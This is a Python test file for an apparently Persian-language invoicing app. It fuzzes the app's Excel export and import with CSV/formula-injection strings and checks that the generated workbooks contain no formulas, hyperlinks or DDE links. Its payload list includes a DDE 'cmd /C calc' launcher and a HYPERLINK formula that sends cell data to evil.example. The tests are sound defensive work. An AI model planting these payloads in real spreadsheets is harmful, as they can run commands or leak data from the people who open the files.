"""Row G-12: what people typed is text in every workbook that we make, however it begins; signs stay signs."""

from __future__ import annotations

import random
import re
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from domain.imports.layout import find_layout, read_rows
from domain.imports.rows import ImportKind
from domain.money import Money
from screens.documents import invoice_page
from screens.language import Language
from screens.paper import Form
from screens.statement_pages import statement_page
from services.imports.reading import read_table
from services.imports.sheets import write_aside
from services.rendering import draw
from tests.builders.documents import INVOICE, STATEMENT
from tests.nemesis.harness import seeded, trials

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\x00", "\n", "＝", "'=", " =", "\u200f=", "{=", "\u202e=")
ATTACKS = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/"&A1,"فاکتور")', "1+1", "SUM(A1:A9)",
    "WEBSERVICE(A1)",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "2-3", "http://evil.example", "mailto:a@b.c", "internal:Sheet1!A1",
    "0", "}", "",
)  # fmt: skip
RUNNING = re.compile(rb"<f[ >]|<hyperlink|<ddeLink|externalLink|<oleLink")


def a_text(chance: random.Random) -> str:
    return chance.choice(BEGINNINGS) + chance.choice(ATTACKS) + chance.choice(("", "سالن", "\n=1"))


def what_runs(content: bytes) -> list[bytes]:
    """Everything in the parts of a workbook that is calculated or leads out of it."""
    with ZipFile(BytesIO(content)) as book:
        return [found for name in book.namelist() for found in RUNNING.findall(book.read(name))]


def cells_of(content: bytes) -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(BytesIO(content))
    return [list(row) for row in book.get_sheet_by_index(0).to_python(skip_empty_area=False)]


def test_an_invoice_runs_nothing_and_says_everything(persian: Language) -> None:
    for trial in range(trials(200)):
        chance, seed = seeded("G-12-invoice", trial)
        texts = [a_text(chance) for _each in INVOICE.lines]
        lines = tuple(
            replace(line, name=text, code=text) for line, text in zip(INVOICE.lines, texts, strict=True)
        )
        seller = replace(INVOICE.seller, name=a_text(chance), footer=a_text(chance), phone=a_text(chance))
        buyer = replace(INVOICE.buyer, name=a_text(chance), address=a_text(chance))
        nasty = replace(
            INVOICE, lines=lines, seller=seller, buyer=buyer, terms=a_text(chance), note=a_text(chance)
        )
        page = invoice_page(nasty, persian)
        content = draw(page, Form.EXCEL)
        assert what_runs(content) == [], seed
        rows = cells_of(content)
        shown = [str(row[1]).replace("\r\n", "\n") for row in rows]
        for row in page.rows:
            assert row[1].text in shown, seed


def test_a_statement_keeps_its_signs(persian: Language) -> None:
    for trial in range(trials(200)):
        chance, seed = seeded("G-12-statement", trial)
        amounts = [chance.randint(-(10**12), 10**12) for _each in STATEMENT.lines]
        lines = tuple(
            replace(line, what=a_text(chance), debit=Money(amount), credit=Money(-amount // 3))
            for line, amount in zip(STATEMENT.lines, amounts, strict=True)
        )
        document = replace(STATEMENT, opening=Money(chance.randint(-(10**12), -1)), lines=lines)
        content = draw(statement_page(document, persian), Form.EXCEL)
        assert what_runs(content) == [], seed
        rows = cells_of(content)
        head = next(at for at, row in enumerate(rows) if row[0] == "ردیف")
        entries = rows[head + 1 : head + 2 + len(lines)]
        assert [row[5] for row in entries] == [
            document.opening.rials, *(balance.rials for balance in document.balances())
        ], seed  # fmt: skip
        assert [row[3] or 0 for row in entries[1:]] == amounts, seed


def test_nothing_of_it_runs_on_paper_either(persian: Language) -> None:
    for trial in range(trials(20)):
        chance, seed = seeded("G-12-paper", trial)
        lines = tuple(replace(line, name=a_text(chance) + "#panic()") for line in INVOICE.lines)
        assert draw(invoice_page(replace(INVOICE, lines=lines), persian), Form.PDF).startswith(b"%PDF"), seed


def test_refused_rows_of_an_import_run_nothing(persian: Language, tmp_path: Path) -> None:
    for trial in range(trials(200)):
        chance, seed = seeded("G-12-import", trial)
        attack = a_text(chance)
        table = [("کد", "نام", "دسته", "قیمت (تومان)"), (attack, attack, attack, attack)]
        layout = find_layout(ImportKind.PRODUCTS, table)
        errors = [
            fault for _number, found in read_rows(layout, table) if isinstance(found, list) for fault in found
        ]
        path = tmp_path / f"{trial}.xlsx"
        write_aside(path, layout, table, errors, persian)
        assert what_runs(path.read_bytes()) == [], seed
        assert errors == [] or len(read_table(path)) == 2, seed


@pytest.mark.parametrize("attack", ["=1+1", "=cmd|' /C calc'!A0", "http://evil.example"])
def test_the_library_left_to_itself_would_run_them(attack: str) -> None:
    """The negative control: the same texts with the options that nobody chose."""
    file = BytesIO()
    with xlsxwriter.Workbook(file) as book:
        book.add_worksheet().write(0, 0, attack)
    assert what_runs(file.getvalue()) != []
